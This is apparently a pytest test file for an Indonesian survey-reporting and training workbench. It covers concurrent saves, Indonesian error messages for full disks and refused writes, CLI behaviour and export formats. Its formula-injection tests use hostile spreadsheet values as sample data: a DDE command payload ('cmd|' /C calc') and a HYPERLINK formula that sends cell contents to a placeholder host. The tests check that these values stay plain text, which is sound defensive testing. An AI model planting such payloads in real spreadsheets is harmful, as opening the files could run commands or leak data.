"""Shared state and files people open: no lost update, no refused write left unexplained."""

from __future__ import annotations

import csv as _csv
import errno
import json
import multiprocessing
import os
import subprocess
import sys
import time
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from tests.refuse import refuse_writes_in
from workbench import skm
from workbench.config import load_settings
from workbench.errors import WorkbenchError
from workbench.practice import ExerciseSet, Outcome, ValueQuestion
from workbench.practice.progress import ProgressStore
from workbench.skm import plan as skm_plan

_FORK = multiprocessing.get_context("fork") if hasattr(os, "fork") else None
needs_fork = pytest.mark.skipif(_FORK is None, reason="worker processes are forked")


@pytest.fixture
def settings(tmp_path, monkeypatch):
    monkeypatch.delenv("WORKBENCH_CONFIG", raising=False)
    (tmp_path / "notebooks").mkdir()
    return load_settings(home=tmp_path)


def _one_row(text: str) -> pd.DataFrame:
    return pd.DataFrame(
        {
            "unsur": ["U3"],
            "masalah": [text],
            "tindakan": [""],
            "penanggung_jawab": [""],
            "tenggat": [""],
            "status": ["belum dimulai"],
        }
    )


# -- the follow-up plan ----------------------------------------------------------------------


def _add_plan_rows(home: str, who: str, times: int, start) -> None:
    """Add ``times`` rows to the shared plan, each save tied to the version it was opened at;
    a save refused because a colleague saved first is redone from the fresh plan."""
    settings = load_settings(home=home)
    start.wait()
    for i in range(times):
        while True:
            opened = skm_plan.plan_version(settings=settings)
            plan = skm.load_plan(settings=settings)
            if skm_plan.plan_version(settings=settings) != opened:
                continue  # saved between the two reads: open again
            grown = pd.concat([plan, skm.validate_plan(_one_row(f"{who}-{i}"))])
            try:
                skm.save_plan(grown, settings=settings, versi=opened)
            except WorkbenchError as exc:
                if "orang lain" not in exc.message:
                    raise
                continue
            break


@needs_fork
def test_two_officers_saving_the_plan_at_once_lose_no_row(settings):
    """When two processes each add 60 rows to the same plan, every save tied to the version it
    opened, are all 120 rows in the saved plan (a save told 'saved' is really saved)?"""
    start = _FORK.Event()
    workers = [
        _FORK.Process(daemon=True, target=_add_plan_rows, args=(str(settings.home), who, 60, start))
        for who in ("ani", "budi")
    ]
    for w in workers:
        w.start()
    start.set()
    for w in workers:
        w.join(300)
    assert [w.exitcode for w in workers] == [0, 0]
    saved = skm.load_plan(settings=settings)["masalah"].tolist()
    expected = {f"{who}-{i}" for who in ("ani", "budi") for i in range(60)}
    assert len(saved) == 120 and set(saved) == expected
    assert [p.name for p in (settings.state_dir / "skm").iterdir()] == ["rencana-tindak-lanjut.csv"]


def test_plan_on_a_full_disk_is_an_indonesian_error(settings, monkeypatch):
    """When the disk is full, does save_plan say so in Indonesian (no raw OSError) and keep the
    plan saved before?"""
    skm.save_plan(_one_row("Antrean lama"), settings=settings)
    refuse_writes_in(settings.state_dir, monkeypatch, errno.ENOSPC, at="sync")
    with pytest.raises(WorkbenchError, match="disk penuh"):
        skm.save_plan(_one_row("Kursi kurang"), settings=settings)
    assert skm.load_plan(settings=settings)["masalah"].tolist() == ["Antrean lama"]


def test_plan_in_a_read_only_folder_is_an_indonesian_error(settings, monkeypatch):
    """Is a state folder the system refuses to write reported in Indonesian, naming it?"""
    refuse_writes_in(settings.state_dir, monkeypatch, errno.EACCES)
    with pytest.raises(WorkbenchError, match="izin ditolak"):
        skm.save_plan(_one_row("Antrean lama"), settings=settings)


# -- practice progress -----------------------------------------------------------------------


def _record_checks(home: str, module: str, times: int, start) -> None:
    store = ProgressStore("ani", settings=load_settings(home=home))
    start.wait()
    for _ in range(times):
        store.record(module, "q1", "check", Outcome.INCORRECT)


def _die_while_saving_progress(home: str, saving) -> None:
    """Record a check, and hang in the middle of writing it, holding whatever guards the file."""
    store = ProgressStore("ani", settings=load_settings(home=home))

    def hang(data):
        saving.set()
        while True:  # until the process is killed
            time.sleep(60)

    store._write = hang
    store.record("02-pandas", "q1", "check", Outcome.INCORRECT)


@needs_fork
def test_progress_from_two_kernels_at_once_is_not_lost(settings):
    """When two kernels (two processes) record checks for one learner at the same moment, is
    every attempt kept, with no lock or temporary file left behind?"""
    start = _FORK.Event()
    workers = [
        _FORK.Process(
            daemon=True, target=_record_checks, args=(str(settings.home), module, 30, start)
        )
        for module in ("02-pandas", "03-bersih")
    ]
    for w in workers:
        w.start()
    start.set()
    for w in workers:
        w.join(300)
    assert [w.exitcode for w in workers] == [0, 0]
    store = ProgressStore("ani", settings=settings)
    assert store.frame()["percobaan"].tolist() == [30, 30]
    assert sorted(p.name for p in store.folder.iterdir()) == ["ani.json"]


@needs_fork
def test_progress_after_a_kernel_killed_mid_save_is_recorded_at_once(settings):
    """After a kernel is killed while holding the progress lock, is the next check recorded
    (not written unlocked after a wait), with no stale lock file left behind?"""
    store = ProgressStore("ani", settings=settings)
    saving = _FORK.Event()
    holder = _FORK.Process(
        daemon=True, target=_die_while_saving_progress, args=(str(settings.home), saving)
    )
    holder.start()
    assert saving.wait(60)
    holder.kill()
    holder.join(60)
    store.record("02-pandas", "q1", "check", Outcome.CORRECT)
    assert store.frame()["status"].tolist() == ["benar"]
    assert sorted(p.name for p in store.folder.iterdir()) == ["ani.json"]


@pytest.mark.parametrize(
    ("code", "at", "reason"),
    [(errno.ENOSPC, "sync", "disk penuh"), (errno.EACCES, "open", "izin ditolak")],
)
def test_a_check_whose_progress_was_not_saved_says_so(
    settings, monkeypatch, capsys, code, at, reason
):
    """When the disk is full or the progress folder is read-only, does the learner see the
    verdict and also that this attempt was not saved, and why?"""
    store = ProgressStore("ani", settings=settings)
    (q1,) = ExerciseSet("99-uji", [ValueQuestion("x", 1)]).bind(ns := {}, recorder=store.record)
    ns["x"] = 1
    store.folder.mkdir(parents=True)
    refuse_writes_in(store.folder, monkeypatch, code, at=at)
    q1.check()
    out = capsys.readouterr().out
    assert "Benar!" in out and "Progres belum tersimpan" in out and reason in out
    monkeypatch.undo()
    assert not store.path.exists()


def test_progress_refusal_is_a_workbench_error(settings, monkeypatch):
    """Does recording progress into a refused folder raise one Indonesian error naming the
    progress file, never a bare OSError?"""
    store = ProgressStore("ani", settings=settings)
    store.folder.mkdir(parents=True)
    store.path.write_text(json.dumps({"peserta": "ani", "modul": {}}), encoding="utf-8")
    refuse_writes_in(store.folder, monkeypatch, errno.ENOSPC, at="sync")
    with pytest.raises(WorkbenchError, match="disk penuh") as info:
        store.record("02-pandas", "q1", "check", Outcome.CORRECT)
    assert str(store.path) in str(info.value)


# -- text stays text in files people open ------------------------------------------------------

DDE = "=cmd|' /C calc'!A0"
LINK = '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")'


def _formulas(path) -> list[str]:
    """Every cell of the workbook at ``path`` that Excel would evaluate."""
    import openpyxl

    book = openpyxl.load_workbook(path)
    return [
        f"{sheet.title}!{cell.coordinate}: {cell.value}"
        for sheet in book
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def _texts(path) -> set[str]:
    import openpyxl

    book = openpyxl.load_workbook(path)
    return {
        cell.value
        for sheet in book
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }


def test_skm_report_keeps_survey_categories_and_plan_text_as_text(settings, tmp_path):
    """When survey categories (kelurahan, pekerjaan, jenis layanan) and the follow-up plan hold
    text that starts with =, +, - or @, does the Excel report show it as text, with no formula
    anywhere in the workbook?"""
    from workbench.data import load

    answers = load("skm").head(400).copy()
    answers.loc[answers.index[:150], "kelurahan"] = DDE
    answers.loc[answers.index[:150], "pekerjaan"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    answers.loc[answers.index[150:300], "jenis_layanan"] = "+1+2"
    laporan = skm.report(answers, seed=1, n_boot=50)
    plan = _one_row(LINK).assign(tindakan=["-2+3"], penanggung_jawab=["@Kasi Pelayanan"])
    path = skm.export_excel(laporan, tmp_path / "laporan.xlsx", rencana=plan, settings=settings)
    assert _formulas(path) == []
    assert {DDE, "@SUM(1+1)*cmd|' /C calc'!A0", "+1+2", LINK, "-2+3"} <= _texts(path)
    assert "@Kasi Pelayanan" in _texts(path)


def _progress_of(settings, learner: str, module: str) -> None:
    ProgressStore(learner, settings=settings).record(module, "q1", "check", Outcome.CORRECT)


def test_progress_export_keeps_learner_names_and_modules_as_text(settings, tmp_path):
    """When a progress file names its learner '=HYPERLINK(...)' and a module '@cmd', does the
    trainer's Excel export hold them as text (no formula), and the CSV export guard them with
    a leading apostrophe while the numbers stay numbers?"""
    from workbench.practice.progress import export_progress

    _progress_of(settings, "ani", "02-pandas")
    store = ProgressStore("budi", settings=settings)
    store.record("@cmd", "q1", "check", Outcome.CORRECT)
    data = json.loads(store.path.read_text(encoding="utf-8"))
    data["peserta"] = LINK  # the name inside a collected file is what the trainer sees
    store.path.write_text(json.dumps(data), encoding="utf-8")

    xlsx = export_progress(tmp_path / "progres.xlsx", settings=settings)
    assert _formulas(xlsx) == []
    assert {LINK, "@cmd"} <= _texts(xlsx)

    csv = export_progress(tmp_path / "progres.csv", settings=settings)
    with open(csv, encoding="utf-8-sig", newline="") as handle:
        rows = list(_csv.reader(handle, delimiter=";"))
    assert rows[0][:3] == ["peserta", "modul", "soal"]
    cells = {cell for row in rows[1:] for cell in row}
    assert "'@cmd" in cells and "@cmd" not in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)
    table = pd.read_csv(csv, sep=";", encoding="utf-8-sig")
    assert table["percobaan"].tolist() == [1, 0]  # numbers stay numbers (the edited file's
    # entry no longer matches its seal, so it counts nothing)


def test_plan_text_that_looks_like_a_formula_is_saved_as_text_and_read_back_as_typed(settings):
    """Is plan text starting with = or @ saved so that Excel opening the plan file shows text,
    and read back by the workbench exactly as the officer typed it (apostrophes included)?"""
    typed = _one_row(LINK).assign(tindakan=["'=sudah diawali apostrof"], penanggung_jawab=["@Kasi"])
    path = skm.save_plan(typed, settings=settings)
    with open(path, encoding="utf-8-sig", newline="") as handle:
        cells = {cell for row in _csv.reader(handle) for cell in row}
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
    loaded = skm.load_plan(settings=settings)
    assert loaded.loc[0, ["masalah", "tindakan", "penanggung_jawab"]].tolist() == [
        LINK,
        "'=sudah diawali apostrof",
        "@Kasi",
    ]


def test_data_write_csv_keeps_text_as_text(tmp_path):
    """Does the data readers' CSV writer guard text a spreadsheet would run, leaving numbers,
    a lone '-' and ordinary text exactly as they were?"""
    from workbench import data

    frame = pd.DataFrame({"nama": [DDE, "-", "Asemrowo"], "nilai": [-1.5, 2.0, 3.25]})
    path = data.write_csv(frame, tmp_path / "keluar.csv")
    assert path.read_text(encoding="utf-8") == (
        "nama,nilai\n'=cmd|' /C calc'!A0,-1.5\n-,2.0\nAsemrowo,3.25\n"
    )


# -- the command line --------------------------------------------------------------------------


def test_skm_report_is_written_even_when_the_output_is_cut_short(settings, tmp_path):
    """Does `workbench skm --laporan X | head -1` still write the report, with no traceback,
    when the reader of the output goes away before the first line?"""
    out = tmp_path / "laporan.xlsx"
    survey = _survey(tmp_path)
    env = {**os.environ, "WORKBENCH_HOME": str(settings.home)}
    env.pop("WORKBENCH_CONFIG", None)
    proc = subprocess.Popen(
        [sys.executable, "-m", "workbench", "skm", str(survey), "--laporan", str(out)],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        env=env,
    )
    proc.stdout.close()  # `head -1` has read its line and left
    _, err = proc.communicate(timeout=300)
    assert b"Traceback" not in err
    assert proc.returncode == 141
    assert openpyxl.load_workbook(out).sheetnames[0] == "Ringkasan"


def _survey(folder):
    """A survey file of 200 answers, as an office exports it."""
    from workbench.data import load

    path = folder / "survei.csv"
    shipped = Path(__file__).resolve().parent.parent / "notebooks" / "data"
    load("skm", data_dir=shipped).head(200).to_csv(path, sep=";", index=False)
    return path


@pytest.fixture
def cli_home(settings, monkeypatch):
    from workbench import config

    monkeypatch.setenv("WORKBENCH_HOME", str(settings.home))
    config.get_settings.cache_clear()
    yield settings
    config.get_settings.cache_clear()


@pytest.mark.parametrize("at", ["open", "sync"])
@pytest.mark.parametrize(
    "command",
    [
        ["skm", "{survey}", "--laporan", "{out}/laporan.xlsx"],
        ["progress", "--export", "{out}/progres.xlsx"],
    ],
)
def test_a_full_disk_is_one_indonesian_message_on_the_command_line(
    cli_home, tmp_path, monkeypatch, capsys, command, at
):
    """When the disk is full as the SKM report or the progress export is written, does the
    command end with one Indonesian message (exit 1) instead of an English traceback?"""
    from workbench.cli import main

    _progress_of(cli_home, "ani", "02-pandas")
    folder = tmp_path / "keluar"
    folder.mkdir()
    refuse_writes_in(folder, monkeypatch, errno.ENOSPC, at=at)
    survey = _survey(tmp_path)
    assert main([part.format(out=folder, survey=survey) for part in command]) == 1
    err = capsys.readouterr().err
    assert err.startswith("Kesalahan: ") and "disk penuh" in err and str(folder) in err
    assert err.count("tidak bisa ditulis") == 1 and "Traceback" not in err
    assert list(folder.iterdir()) == []


def test_a_refused_write_the_engines_missed_is_still_indonesian(monkeypatch, capsys):
    """If a command meets an OSError no engine explained, is it still one Indonesian line?"""
    from workbench.cli import info, main

    def refused(args):
        raise OSError(errno.ENOSPC, "No space left on device", "/data/laporan.xlsx")

    monkeypatch.setattr(info, "run", refused)
    assert main(["info"]) == 1
    assert capsys.readouterr().err == (
        "Kesalahan: Berkas /data/laporan.xlsx tidak bisa ditulis: disk penuh; "
        "kosongkan ruang disk lalu ulangi.\n"
    )


# -- course authoring ---------------------------------------------------------------------------


def _course(tmp_path):
    import nbformat

    author, learner = tmp_path / "curriculum", tmp_path / "notebooks-peserta"
    author.mkdir()
    learner.mkdir()
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_code_cell("x = ____")]
    nbformat.write(nb, author / "01-uji.ipynb")
    return author, learner


@pytest.mark.skipif(os.name == "nt", reason="POSIX permissions")
def test_regenerated_learner_copy_keeps_its_permissions(tmp_path):
    """When a trainer made the learner notebooks group-writable on a shared server, do they
    stay so after the learner copies are regenerated (written through workbench.storage)?"""
    from workbench.practice.authoring import make_learner_copies

    author, learner = _course(tmp_path)
    target = learner / "01-uji.ipynb"
    target.write_text("{}", encoding="utf-8")
    target.chmod(0o660)
    assert make_learner_copies(author, learner) == [target]
    assert target.stat().st_mode & 0o777 == 0o660
    assert "x = ____" in target.read_text(encoding="utf-8")
    assert sorted(p.name for p in learner.iterdir()) == ["01-uji.ipynb"]


def test_learner_copy_into_a_refused_folder_is_an_indonesian_error(tmp_path, monkeypatch):
    """Is a learner-copy folder the system refuses to write reported in Indonesian?"""
    from workbench.practice.authoring import make_learner_copies

    author, learner = _course(tmp_path)
    refuse_writes_in(learner, monkeypatch, errno.EACCES)
    with pytest.raises(WorkbenchError, match="izin ditolak"):
        make_learner_copies(author, learner)


def test_a_progress_file_the_system_refuses_to_read_is_explained(settings, monkeypatch):
    """When the system refuses to open a learner's progress file (permissions on a shared
    server), does the progress cell say so in Indonesian instead of raising an OSError?"""
    from workbench.practice.progress import progress_frame

    _progress_of(settings, "ani", "02-pandas")
    store = ProgressStore("ani", settings=settings)
    real = Path.read_text

    def refused(self, *args, **kwargs):
        if self == store.path:
            raise PermissionError(errno.EACCES, os.strerror(errno.EACCES), str(self))
        return real(self, *args, **kwargs)

    monkeypatch.setattr(Path, "read_text", refused)
    with pytest.raises(WorkbenchError, match="izin ditolak") as info:
        progress_frame(settings=settings)
    assert str(store.path) in str(info.value)


def test_saved_plan_keeps_its_format(settings):
    """Is the plan file still the comma CSV with a byte-order mark that earlier versions wrote
    (so plans saved before still load, and Excel shows its dashes), and ordinary text and
    dates exactly as before?"""
    plan = _one_row("Antrean 1–2 jam").assign(tenggat=["2025-06-30"])
    path = skm.save_plan(plan, settings=settings)
    assert (
        path.read_bytes()
        == (
            "\ufeffunsur,masalah,tindakan,penanggung_jawab,tenggat,status\n"
            "U3,Antrean 1–2 jam,,,2025-06-30,belum dimulai\n"
        ).encode()
    )


def test_progress_export_shows_moments_as_office_time_dates(settings, tmp_path):
    """Does the trainer's export hold when a question was answered as a real date-time in
    office time (an Excel date; '2025-… 08:15:00' in the CSV), not ISO text with '+07:00'?"""
    import datetime as dt

    from workbench.practice.progress import export_progress

    _progress_of(settings, "ani", "02-pandas")
    stored = ProgressStore("ani", settings=settings).frame().loc[0, "benar_pada"]
    wib = dt.datetime.fromisoformat(stored).replace(tzinfo=None)
    xlsx = export_progress(tmp_path / "progres.xlsx", settings=settings)
    sheet = openpyxl.load_workbook(xlsx)["rincian"]
    header = [c.value for c in sheet[1]]
    cell = sheet.cell(2, header.index("benar_pada") + 1)
    assert cell.is_date and cell.value == wib
    csv = export_progress(tmp_path / "progres.csv", settings=settings)
    table = pd.read_csv(csv, sep=";", encoding="utf-8-sig", dtype=str)
    assert table.loc[0, "benar_pada"] == wib.strftime("%Y-%m-%d %H:%M:%S")
